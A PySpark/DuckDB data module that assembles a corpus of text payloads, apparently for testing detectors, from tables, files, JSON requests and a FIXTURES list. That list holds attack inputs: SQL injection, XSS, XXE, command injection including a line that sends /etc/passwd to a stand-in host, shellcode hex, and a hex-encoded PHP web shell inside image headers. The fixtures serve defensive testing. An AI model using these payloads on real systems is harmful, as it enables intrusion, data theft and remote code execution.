"""Sources and sinks: the payload corpus over the test tables, files, requests and reports."""

from __future__ import annotations

from pyspark.sql import Column, DataFrame, SparkSession
from pyspark.sql import functions as F

from sedimenta.session import ship

#: Payloads that the tables lack, so every operator meets its cases; the same in both engines.
FIXTURES = (
    "", "cocoa", "ZZZZZZZZZ", "XYXY" * 25, "A grey heron waits beside the mill pond.", "SELECT title FROM books WHERE shelf=7; " + "A" * 50,
    "%3Cimg%3E", "%252e%252e%252fsrv%2fkeys", "\\x3c\\x69\\x66\\x72\\x61\\x6d\\x65\\x3e", "pro' + 'mpt(docu' + 'ment.domain)",
    "<script>prompt(document.domain)</script>", "7' UNION SELECT isbn,price FROM stock WHERE '2'='2'--", "; cat /etc/passwd | wget https://drop.test",
    "{{config}}", "Where can I buy a second-hand bicycle in town?", "5' OR '5'='5", "1' OR 1=1--", "PG_SLEEP(9)", "http://10.20.30.40/admin", "<img src=x onerror=alert(1)>",
    '<!DOCTYPE note [<!ENTITY k SYSTEM "file:///srv/key">]>', "obj.__proto__.polluted", "$(whoami)", "/bin/sh -c id", "c:\\windows\\win.ini",
    "setTimeout(atob('Y29uZmlybSgyKQ=='))", "globalThis['pro' + 'mpt']('ti' + 'tle')", "l''s${IFS}/srv/data", "const area = (w, h) => w * h;", "'a'+'b'+'c'+'d'+'e'+'f'",
    "http://0x7f000001/", "/*!50000SELECT*/ 1", "var _0x1a2b=1", "`i`e`x", "\\x41\\x42\\x43", "zero\u200bwidth",
    "GIF87a/*x*/=confirm(document.title);", "%PDF-1.4 /Launch (tool.sh)", "<svg onload=\"confirm(3)\"></svg>", "\\x89PNG", "\\x89504e470d0a1a0a3c3f7068702073797374656d28245f504f53545b325d293b203f3e",
    "\\xffd8ffe100184578696600004d4d002a00000008504b0304", "PK\x03\x04PK\x05\x06", "#!/bin/sh\necho", "MZ<html>", "Opening hours and directions to the museum",
    "90909090909090909090909090909090909090909090909031d20f05", "909090909090909090e80000000059cd80", "d9eed97424f4d9eed97424f4", "FEDCBA9876543210", "@ABCDEFGHIJ", "31c0414243e231c075", "\\x90" * 12 + "\\xcd\\x80",
    "UNION SELECT 4,5,6--", "UNION SELECT 4,5,9--", "http://localhost:8080/a", "https://127.0.0.1", "null", "file://x", "http://192.168.1.5/", "/a/../b", "/static/./app.js", "c:/x",
)


def _literal(s: str) -> str:
    """s as a DuckDB string of printable pieces and chr() calls."""
    out, run = [], ""
    for c in s:
        if c.isprintable() and ord(c) < 127:
            run += "''" if c == "'" else c
        else:
            out += [f"'{run}'", f"chr({ord(c)})"]
            run = ""
    return " || ".join(x for x in [*out, f"'{run}'"] if x != "''") or "''"


def payload_corpus(spark: SparkSession, sf_dir: str) -> DataFrame:
    """source, payload_id and payload of every text column of the tables and of the fixtures."""
    ship(spark)
    t = lambda n: spark.read.parquet(f"{sf_dir}/{n}.parquet")
    row = lambda df, source, i, c: df.select(F.lit(source).alias("source"), i.cast("long").alias("payload_id"), F.col(c).alias("payload"))
    pages = t("pages")
    parts = [
        row(t("documents"), "documents", F.col("doc_id"), "text"), row(pages, "pages", F.col("page_id"), "html"), row(pages, "urls", F.col("page_id"), "url"),
        row(t("conversations"), "conversations", F.col("conv_id") * 100000 + F.col("turn"), "text"), row(t("benchmark"), "benchmark", F.col("item_id"), "text"), row(t("events"), "events", F.col("event_id"), "props"),
        fixtures(spark),
    ]
    out = parts[0]
    for p in parts[1:]:
        out = out.unionByName(p)
    return spread(out)


def spread(df: DataFrame) -> DataFrame:
    """df in more partitions if the scan has fewer than there are cores (small tables of one row group); else as it is."""
    cores = df.sparkSession.sparkContext.defaultParallelism
    return df.repartition(3 * cores) if df.rdd.getNumPartitions() < 2 * cores else df


def fixtures(spark: SparkSession) -> DataFrame:
    return spark.createDataFrame([("fixtures", i, s) for i, s in enumerate(FIXTURES)], "source string, payload_id long, payload string").coalesce(1)


CORPUS_SQL = """corpus AS (
  SELECT 'documents' AS source, doc_id AS payload_id, text AS payload FROM documents
  UNION ALL SELECT 'pages', page_id, html FROM pages
  UNION ALL SELECT 'urls', page_id, url FROM pages
  UNION ALL SELECT 'conversations', conv_id * 100000 + turn, text FROM conversations
  UNION ALL SELECT 'benchmark', item_id, text FROM benchmark
  UNION ALL SELECT 'events', event_id, props FROM events
  UNION ALL SELECT 'fixtures', i, p FROM (VALUES {}) AS f(i, p))""".format(", ".join(f"({i}::BIGINT, {_literal(s)})" for i, s in enumerate(FIXTURES)))


def binary_files(spark: SparkSession, path: str) -> DataFrame:
    """path and content of files, as bytes."""
    return spark.read.format("binaryFile").load(path).select("path", "content")


def ladder_text(content: Column) -> Column:
    """UTF-8 (a byte-order mark stays), and Latin-1 where that fails."""
    return F.coalesce(F.try_validate_utf8(content.cast("string")), F.decode(content, "ISO-8859-1"))


def text_files(spark: SparkSession, path: str) -> DataFrame:
    """path and payload of files, as text by the ladder of encodings."""
    return binary_files(spark, path).select("path", ladder_text(F.col("content")).alias("payload"))


REQUEST = "payload string, window_size int, `order` int, ngram_order int, compare_with string, is_hex boolean"


def requests(lines: DataFrame, column: str = "body") -> DataFrame:
    """Parsed JSON requests: the fields of REQUEST beside what is there; a request that isn't JSON has valid = false."""
    parsed = F.from_json(F.col(column), REQUEST, {"mode": "PERMISSIVE"})
    valid = F.try_parse_json(F.col(column)).isNotNull() if hasattr(F, "try_parse_json") else parsed.isNotNull()
    return lines.withColumn("valid", valid).withColumn("request", parsed)


def write_reports(reports: DataFrame, path: str, mode: str = "errorifexists") -> None:
    """Reports as JSON lines; Spark's commit protocol makes each task's file appear whole or not at all."""
    reports.select(F.to_json(F.struct("*")).alias("value")).write.mode(mode).text(path)


def parquet_payloads(spark: SparkSession, path: str, id_col: str, payload_col: str, source: str | None = None) -> DataFrame:
    """A parquet table as a corpus; only its two columns are read."""
    return spark.read.parquet(path).select(F.lit(source or path).alias("source"), F.col(id_col).cast("long").alias("payload_id"), F.col(payload_col).alias("payload"))
